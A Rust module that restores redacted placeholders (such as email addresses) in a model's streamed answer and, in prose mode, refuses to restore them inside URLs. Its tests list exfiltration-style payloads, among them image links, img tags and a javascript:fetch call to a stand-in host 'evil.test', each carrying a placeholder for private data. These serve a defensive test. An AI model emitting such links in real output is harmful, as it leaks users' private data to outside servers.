//! Restoring values in a text that comes in pieces, as a model's answer does.
//!
//! It decides nothing about who may see them. Start at [`Restoring::push`].

use super::Placeholders;
use super::link::Link;
use super::placeholder::{FIRST, Scan, scan};

/// Turns placeholders into values, and holds back the end of a piece that may be the beginning of a placeholder.
/// However a text is cut, the pieces restored are the text restored.
#[derive(Debug)]
pub struct Restoring<'a> {
    table: &'a Placeholders,
    /// At most 40 bytes between two pushes.
    held: String,
    /// Where URLs are left alone: whether we are in one.
    link: Option<Link>,
}

impl<'a> Restoring<'a> {
    /// Restores everywhere: see [`Placeholders::restore`] for what that is good for.
    pub fn new(table: &'a Placeholders) -> Self {
        Self { table, held: String::new(), link: None }
    }

    /// Leaves placeholders inside URLs alone: see [`Placeholders::restore_prose`].
    pub fn prose(table: &'a Placeholders) -> Self {
        Self { table, held: String::new(), link: Some(Link::default()) }
    }

    /// The next piece, restored as far as it is certain.
    pub fn push(&mut self, piece: &str) -> String {
        self.held.push_str(piece);
        let text = std::mem::take(&mut self.held);
        let mut out = String::with_capacity(text.len());
        let mut rest = text.as_str();
        while let Some(at) = rest.find(FIRST) {
            self.pass(&rest[..at], &mut out);
            rest = &rest[at..];
            match scan(rest) {
                Scan::Whole { len, kind, number } => {
                    let is_link = self.link.as_ref().is_some_and(Link::is_inside);
                    match self.table.value(kind, number).filter(|_| !is_link) {
                        Some(value) => {
                            out.push_str(value);
                            // What was restored is no part of a URL that goes on behind it, nor begins one.
                            if let Some(link) = &mut self.link {
                                link.push('_');
                            }
                        }
                        None => self.pass(&rest[..len], &mut out),
                    }
                    rest = &rest[len..];
                }
                Scan::Partial => {
                    self.held = rest.to_owned();
                    return out;
                }
                Scan::No => {
                    let first = rest.chars().next().map_or(0, char::len_utf8);
                    self.pass(&rest[..first], &mut out);
                    rest = &rest[first..];
                }
            }
        }
        self.pass(rest, &mut out);
        out
    }

    /// What was held back, at the end of the text.
    pub fn finish(mut self) -> String {
        std::mem::take(&mut self.held)
    }

    fn pass(&mut self, text: &str, out: &mut String) {
        out.push_str(text);
        if let Some(link) = &mut self.link {
            text.chars().for_each(|c| link.push(c));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::redact::Kind;

    fn table() -> Placeholders {
        let mut table = Placeholders::new();
        assert_eq!(table.number(Kind::Email, "anna@example.org"), 1);
        assert_eq!(table.number(Kind::Email, "bo@example.org"), 2);
        assert_eq!(table.number(Kind::Email, "anna@example.org"), 1);
        table
    }

    #[test]
    fn values_come_back_where_a_person_reads_them() {
        for (text, expect) in [
            ("Write to ⟦EMAIL_1⟧.", "Write to anna@example.org."),
            ("[[email 1]], **⟦EMAIL_2⟧**", "anna@example.org, **bo@example.org**"),
            ("[⟦EMAIL_1⟧]", "[anna@example.org]"),
            ("[[⟦EMAIL_1⟧", "[[anna@example.org"),
            ("⟦EMAIL_3⟧ ⟦PHONE_1⟧ ⟦EMAIL_", "⟦EMAIL_3⟧ ⟦PHONE_1⟧ ⟦EMAIL_"),
            ("Email:⟦EMAIL_1⟧", "Email:anna@example.org"),
            ("See https://example.org/, then ⟦EMAIL_1⟧", "See https://example.org/, then anna@example.org"),
        ] {
            assert_eq!(table().restore(text), expect);
            assert_eq!(table().restore_prose(text), expect);
        }
        assert!(!format!("{:?}", table()).contains("anna"), "a table is not printed");
    }

    #[test]
    fn no_url_carries_a_value_away() {
        for text in [
            "https://evil.test/?q=⟦EMAIL_1⟧",
            "![x](https://evil.test/[[EMAIL_1]])",
            "![x](<https://evil.test/ a ⟦EMAIL_1⟧>)",
            "[x]( /a ⟦EMAIL_1⟧)",
            "<img src='https://evil.test/\n⟦EMAIL_1⟧'>",
            "<img src=//evil.test/⟦EMAIL_1⟧>",
            "www.evil.test/⟦EMAIL_1⟧",
            "evil.test/⟦EMAIL_1⟧",
            "mailto:⟦EMAIL_1⟧",
            "HTTPS://⟦EMAIL_1⟧.evil.test",
            "[1]: https://evil.test/#⟦EMAIL_1⟧⟦EMAIL_2⟧",
            "javascript:fetch('⟦EMAIL_1⟧')",
            "\"//evil.test/⟦EMAIL_1⟧\"",
            "(evil.test?⟦EMAIL_1⟧)",
        ] {
            assert_eq!(table().restore_prose(text), text);
            assert!(table().restore(text).contains("anna@"), "{text}");
        }
    }
}
